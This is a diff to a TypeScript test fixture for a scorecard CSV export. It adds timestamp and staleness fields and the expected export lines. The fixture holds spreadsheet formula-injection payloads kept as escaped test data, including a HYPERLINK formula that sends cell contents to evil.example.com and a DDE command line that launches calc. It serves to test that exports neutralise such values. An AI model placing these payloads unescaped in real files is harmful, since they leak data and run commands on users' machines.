@@ -4,7 +4,7 @@ import { row } from './scorecardRows';
 /**
  * Scorecard rows whose entity and user texts a spreadsheet would run as formulas: each text
  * column starts with one of `=`, `+`, `-`, `@`, tab, carriage return or a full-width form; the
- * budget left is negative, which must stay a number.
+ * budget left is negative, which must stay a number. The first one's last evaluation failed.
  */
 export const formulaRows: ScorecardRow[] = [
   row('formulas', {
@@ -24,6 +24,8 @@ export const formulaRows: ScorecardRow[] = [
     policyState: 'red',
     readinessScore: 0.25,
     missing: ['onCall', 'runbooks'],
+    measuredAt: Date.parse('2026-11-24T09:00:00Z'),
+    degraded: true,
   }),
   row('full-width', {
     title: '＝1+1',
@@ -41,4 +43,13 @@ export const formulaRows: ScorecardRow[] = [
 export const formulaRowLines = [
   'component:default/formulas,"\'=HYPERLINK(""https://evil.example.com/?""&A1,""Click"")",1,\'+group:default/payments,\'-2+3,\'@SUM(A1:A9),\'\tproduction,"\'\r=cmd|\' /C calc\'!A0",1,2,0.5,-12.5,14.4,burning_fast,red,0.25,,onCall runbooks\n',
   "component:default/full-width,'＝1+1,,'＋1,'－1,'＠A1,pro=duction,PagerDuty -1,0,0,,-0.000001,-1,no_data,nodata,,,\n",
+];
+
+/**
+ * The exported lines of `formulaRows` (tiers named `Tier <level>`): the stored line, then the tier's
+ * name, when the figures were measured (ISO 8601, UTC; empty when never) and whether they are stale.
+ */
+export const formulaRowExportLines = [
+  `${formulaRowLines[0].slice(0, -1)},Tier 1,2026-11-24T09:00:00.000Z,true\n`,
+  `${formulaRowLines[1].slice(0, -1)},,,false\n`,
 ];
